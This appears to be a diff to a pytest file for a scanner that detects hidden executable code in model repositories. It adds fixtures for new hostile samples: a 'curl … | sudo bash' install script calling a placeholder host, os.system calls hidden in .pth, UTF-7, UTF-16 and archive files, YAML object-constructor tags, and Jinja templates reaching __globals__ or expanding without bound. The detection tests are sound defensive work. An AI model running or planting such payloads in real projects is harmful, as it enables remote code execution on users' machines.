@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import io
 import json
 import marshal
 import struct
+import tarfile
+import zipfile
 from collections.abc import Mapping
 from pathlib import Path
 
@@ -45,6 +48,24 @@ def test_a_repository_without_python_passes_with_a_measurement(tmp_path: Path) -
     assert observation.tools == {}
 
 
+def zipped(members: Mapping[str, str]) -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return stream.getvalue()
+
+
+def tarred(members: Mapping[str, str]) -> bytes:
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
+        for name, content in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content.encode()))
+    return stream.getvalue()
+
+
 HOSTILE: dict[str, str | bytes] = {
     ".bandit": "[bandit]\nskips: B602,B605\nexclude: /\n",
     ".git/hooks/update.py": SHELL,
@@ -68,13 +89,29 @@ HOSTILE: dict[str, str | bytes] = {
     "data.py": '["' + "x" * 70_000 + '"]\n' + SYSTEM,
     "data.txt": '["' + "x" * 70_000 + '"]\n' + SYSTEM,
     "run.sh": "#!/bin/sh\nls\n",
+    "install.sh": "#!/bin/sh\ncurl -s https://x.example/i | sudo bash\n",
+    "evil.pth": "import os; os.system('true')\n",
+    "sitecustomize.py": "x = 1\n",
+    "requirements.txt": "torch\ngit+https://x.example/y.git\n",
+    "utf7.py": b"# coding: utf-7\nimport os\n+AG8-s.system('true')\n",
+    "utf16.log": SYSTEM.encode("utf-16"),
+    "nul.txt": SYSTEM.encode() + b"\0" + b"# more\n" * 40,
+    "bom.py": b"\xef\xbb\xbf" + SYSTEM.encode(),
+    "long.txt": "# text\n" * 700_000 + SYSTEM,
+    "pack.whl": zipped({"inside/mod.py": SYSTEM, "config.json": '{"auto_map": {"AutoModel": "a/b--c.D"}}'}),
+    "pack.tar.gz": tarred({"train": "#!/usr/bin/env python3\n" + SYSTEM}),
+    "conf/deep.yaml": "a:\n  - b: {_target_: os.system}\n",
+    "hyper.yaml": "model: !new:os.system\n",
+    "kernels.lock": '[{"repo_id": "a/b"}]',
+    "chat_template.txt": "{{ x.__globals__ }}",
+    "endless.jinja": "{% set ns = namespace(x='ab') %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
 }
 
 
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> Observation:
     folder = write(tmp_path_factory.mktemp("code") / "model", HOSTILE)
-    context = tree_context(folder, CodeLimits(), scratch=folder.parent / "scratch")
+    context = tree_context(folder, CodeLimits(template_time_limit_s=5), scratch=folder.parent / "scratch")
     observation = CHECK.run(context)
     assert isinstance(context.evidence, KeptEvidence)
     assert b"B602" in context.evidence.kept["bandit-source.json"]
@@ -101,6 +138,23 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Observation:
         ("module.pyc", "code.compiled-python"),
         ("lib.so", "code.native-binary"),
         ("args.yaml", "code.yaml-object"),
+        ("install.sh", "code.process"),
+        ("evil.pth", "code.dynamic-code"),
+        ("sitecustomize.py", "code.dynamic-code"),
+        ("requirements.txt", "code.requirements"),
+        ("utf7.py", "code.process"),
+        ("utf16.log", "code.process"),
+        ("nul.txt", "code.process"),
+        ("bom.py", "code.process"),
+        ("long.txt", "code.unreadable-python"),
+        ("pack.whl", "code.process"),
+        ("pack.whl", "code.auto-map"),
+        ("pack.tar.gz", "code.process"),
+        ("conf/deep.yaml", "code.custom-pipeline"),
+        ("hyper.yaml", "code.yaml-object"),
+        ("kernels.lock", "code.hub-kernel"),
+        ("chat_template.txt", "code.template"),
+        ("endless.jinja", "code.template"),
     ],
 )
 def test_code_is_found_wherever_and_however_it_hides(hostile: Observation, path: str, rule: str) -> None:
@@ -119,7 +173,7 @@ def test_a_notebook_is_told_by_cell_and_line(hostile: Observation) -> None:
     assert any(message.startswith("demo.ipynb cell 2:2: os.system") for message in messages)
     assert any("cell 3 line 2" in message for message in messages)
     assert any("cell 3 line 3" in message for message in messages)
-    assert any("cell 4 runs a program" in message for message in messages)
+    assert any("cell 4 is a cell of %%bash" in message for message in messages)
     assert not any("cell 5" in message for message in messages)
 
 
@@ -140,12 +194,17 @@ def static(tmp_path: Path, files: Mapping[str, str | bytes], limits: CodeLimits 
 
 def test_auto_map_is_refused_and_own_code_may_be_allowed(tmp_path: Path) -> None:
     other = {"config.json": json.dumps({"auto_map": {"AutoModel": "other/repo--mod.Cls"}})}
-    own = {"config.json": json.dumps({"auto_map": {"AutoModel": "mod.Cls"}})}
+    own = {"config.json": json.dumps({"auto_map": {"AutoModel": "mod.Cls"}}), "mod.py": "class Cls:\n    pass\n"}
+    gone = {"config.json": json.dumps({"auto_map": {"AutoModel": "gone.Cls"}})}
     allowed = CodeLimits(allow_own_code=True)
     assert [item.rule for item in static(tmp_path / "a", other)] == ["code.auto-map"]
     assert [item.rule for item in static(tmp_path / "b", other, allowed)] == ["code.auto-map"]
     assert [item.rule for item in static(tmp_path / "c", own)] == ["code.auto-map"]
     assert static(tmp_path / "d", own, allowed) == ()
+    assert [item.rule for item in static(tmp_path / "e", gone, allowed)] == ["code.auto-map"]
+    generate: dict[str, str | bytes] = {"custom_generate/generate.py": "def generate(model):\n    return model\n"}
+    assert [item.rule for item in static(tmp_path / "f", generate)] == ["code.custom-pipeline"]
+    assert static(tmp_path / "g", generate, allowed) == ()
 
 
 def test_templates_are_refused_wherever_they_are(tmp_path: Path) -> None:
@@ -164,7 +223,7 @@ def test_templates_are_refused_wherever_they_are(tmp_path: Path) -> None:
 
 
 def test_hooks_and_secrets_in_files_that_do_not_parse(tmp_path: Path) -> None:
-    secret = "hf_" + "Ab" * 17
+    secret = "hf_" + "kQzVbTmWcXjRyLpNsGdHfJaEuCvBnMqZrT"
     files: dict[str, str | bytes] = {
         "config.json": '{"auto_map": {',
         "cut.json": '{"a": ',
